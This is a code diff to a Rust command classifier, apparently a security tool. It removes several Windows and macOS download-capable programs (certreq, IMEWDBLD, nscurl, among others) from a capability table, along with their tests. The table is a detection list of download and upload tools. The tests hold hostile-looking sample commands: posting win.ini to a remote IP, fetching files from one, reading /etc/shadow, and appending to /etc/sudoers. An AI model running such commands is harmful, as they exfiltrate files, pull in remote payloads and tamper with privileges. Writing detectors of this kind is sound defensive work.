@@ -211,14 +211,6 @@ const PROGRAMS: &[(&str, &[Capability])] = &[
     ("dnscmd", &[Execute]),
     ("finger", &[Download]),
     ("tftp", &[Download, Upload]),
-    // Given a URL, these fetch it to disk: a certificate request posted to any server, the
-    // input-method dictionary builder, Edge's app launcher, Notepad++'s updater, macOS's
-    // curl.
-    ("certreq", &[Download, Upload]),
-    ("imewdbld", &[Download]),
-    ("msedge_proxy", &[Download]),
-    ("gup", &[Download]),
-    ("nscurl", &[Download, Upload]),
     ("curl.exe", &[Download, Upload]),
 ];
 
@@ -367,25 +359,6 @@ mod tests {
                 .contains(&("curl".to_string(), Upload))
         );
         assert!(caps("cat /etc/shadow", Shell::Sh).contains(&("cat".to_string(), FileRead)));
-        assert!(
-            caps(
-                r"certreq.exe -Post -config https://203.0.113.7/ c:\windows\win.ini out.txt",
-                Shell::Cmd
-            )
-            .contains(&("certreq".to_string(), Download))
-        );
-        assert!(caps(r"certreq -submit -config ca01\corp-ca req.csr", Shell::Cmd).is_empty());
-        assert!(
-            caps(
-                r"C:\Windows\System32\IME\SHARED\IMEWDBLD.exe https://203.0.113.7/a.zip",
-                Shell::Cmd
-            )
-            .contains(&("imewdbld".to_string(), Download))
-        );
-        assert!(
-            caps("nscurl -k https://203.0.113.7/x -o x", Shell::Sh)
-                .contains(&("nscurl".to_string(), Download))
-        );
         assert!(
             caps("echo x | tee -a /etc/sudoers", Shell::Sh)
                 .contains(&("tee".to_string(), FileWrite))
